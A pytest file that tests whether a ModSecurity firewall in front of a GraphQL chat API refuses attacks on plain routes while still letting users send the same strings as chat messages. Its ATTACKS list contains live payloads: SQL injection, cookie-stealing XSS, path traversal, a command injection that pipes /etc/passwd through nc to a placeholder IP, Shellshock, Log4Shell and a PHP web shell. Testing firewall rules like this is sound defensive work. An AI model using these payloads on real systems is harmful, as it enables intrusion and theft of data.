"""ModSecurity with the core rules before the API: an attack is refused, and no operation is taken for one."""

from collections.abc import AsyncIterator, Iterator

import httpx
import pytest

# These run here as well, with an `api` that has ModSecurity before it.
from tests.api.test_messages import *  # noqa: F403
from tests.clients import Api
from tests.deploy.nginx import Nginx, running_nginx
from tests.stack_process import StackProcess

# What the core rules refuse anywhere else.
ATTACKS = [
    "1' OR '1'='1' UNION SELECT password FROM users--",
    "<script>alert(document.cookie)</script>",
    "../../../../etc/passwd",
    "; cat /etc/passwd | nc 203.0.113.9 4444",
    "() { :; }; /bin/bash -c 'id'",
    "${jndi:ldap://203.0.113.9/a}",
    "<?php system($_GET['c']); ?>",
]


@pytest.fixture(scope="module")
def waf(replicas: StackProcess) -> Iterator[Nginx]:
    with running_nginx(*(url.removeprefix("http://") for url in replicas.urls), waf=True) as nginx:
        yield nginx


@pytest.fixture
async def api(waf: Nginx, address: str) -> AsyncIterator[Api]:
    async with Api(waf.url) as api:
        api.http.headers["x-forwarded-for"] = address
        yield api


@pytest.fixture
async def other_api(waf: Nginx, address: str) -> AsyncIterator[Api]:
    async with Api(waf.url) as api:
        api.http.headers["x-forwarded-for"] = address
        yield api


def is_refused(response: httpx.Response) -> bool:
    """Whether this is a 403 that a GraphQL client understands."""
    (error,) = response.json()["errors"]
    return response.status_code == 403 and error["extensions"] == {"code": "FORBIDDEN", "retryable": False}


@pytest.mark.parametrize("attack", ATTACKS)
async def test_an_attack_on_a_plain_route_is_refused(api: Api, attack: str) -> None:
    queried = await api.http.get(f"{api.url}/health", params={"q": attack})
    posted = await api.http.post(f"{api.url}/api/v1/monitoring/track", json={"name": attack})

    assert is_refused(queried)
    assert is_refused(posted)


async def test_plain_routes_and_pages_pass(api: Api) -> None:
    for path in ("/health", "/health/ready", "/.well-known/jwks.json", "/", "/reset?token=abc"):
        assert (await api.http.get(f"{api.url}{path}")).status_code == 200, path


@pytest.mark.parametrize("attack", ATTACKS)
async def test_people_may_say_anything_and_hear_it(api: Api, attack: str) -> None:
    ann = await api.register()
    conversation = await ann.talk()

    async with ann.socket() as socket:
        updates = await socket.updates(conversation["id"])
        await updates.until_caught_up()
        await ann.send(conversation["id"], attack)
        update = await updates.update()

    assert update["message"]["body"] == attack


@pytest.mark.parametrize("attack", ATTACKS)
async def test_a_query_by_get_may_have_anything_in_its_variables(api: Api, attack: str) -> None:
    query = "query ($id: ID!) { node(id: $id) { id } }"
    variables = httpx.QueryParams({"query": query, "variables": f'{{"id": "{attack}"}}'})

    answer = await api.http.get(f"{api.url}/graphql", params=variables)

    assert answer.status_code in {200, 400, 401}
    assert "attack" not in answer.text.replace(attack, "")


async def test_an_attack_on_the_path_of_operations_itself_is_refused(api: Api) -> None:
    attacked = await api.http.get(f"{api.url}/graphql", params={"query": "{ __typename }", "other": ATTACKS[0]})
    scanned = await api.http.post(
        f"{api.url}/graphql", json={"query": "{ __typename }"}, headers={"user-agent": "sqlmap/1.7"}
    )

    assert is_refused(attacked)
    assert is_refused(scanned)
